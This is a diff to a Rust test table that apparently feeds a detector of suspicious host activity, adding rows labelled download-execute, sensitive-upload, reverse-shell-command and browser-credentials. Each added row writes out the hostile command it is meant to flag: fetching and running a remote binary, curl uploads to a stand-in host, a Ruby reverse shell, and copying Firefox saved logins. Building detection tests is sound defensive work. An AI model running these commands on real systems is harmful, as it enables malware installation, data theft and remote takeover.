@@ -194,6 +194,26 @@ pub(super) const HABITS: &[Row] = &[
     ("sensitive-upload", Suspicious, |t| {
         t.spawn(ROOT, "/usr/bin/ssh", &["ssh", "h.example.org", "(cd /etc && tar -zcf - *)"]);
     }),
+    ("download-execute", Suspicious, |t| {
+        let sh = shell(t, "wget http://203.0.113.7/arm7; chmod 777 arm7; ./arm7 start");
+        t.command(sh, "wget http://203.0.113.7/arm7");
+    }),
+    ("sensitive-upload", Suspicious, |t| {
+        runs(t, "curl -F data=@/tmp/out.tar.gz http://203.0.113.7/up");
+    }),
+    ("sensitive-upload", Suspicious, |t| runs(t, "curl -T list.csv ftp://203.0.113.7/x")),
+    ("privileged-file-search", Suspicious, |t| runs(t, "find / -type f -perm -333")),
+    ("reverse-shell-command", Suspicious, |t| {
+        t.spawn(
+            ROOT,
+            "/usr/bin/ruby",
+            &["ruby", "-rsocket", "-ef=TCPSocket.open('10.0.0.9',1).to_i;exec '/bin/sh -i'"],
+        );
+    }),
+    ("browser-credentials", Suspicious, |t| {
+        let cp = t.command(ROOT, "cp /home/ann/.mozilla/firefox/x/logins.json /tmp/l");
+        t.event(cp, Kind::Exit { code: Some(1), signal: None, thread: false });
+    }),
     ("mailbox-cleared", Suspicious, |t| {
         let mkdir = t.command(ROOT, "mkdir -p /var/spool/mail/copy");
         t.failed(mkdir, Kind::Mkdir { path: "/var/spool/mail/copy".into() }, ENOENT);
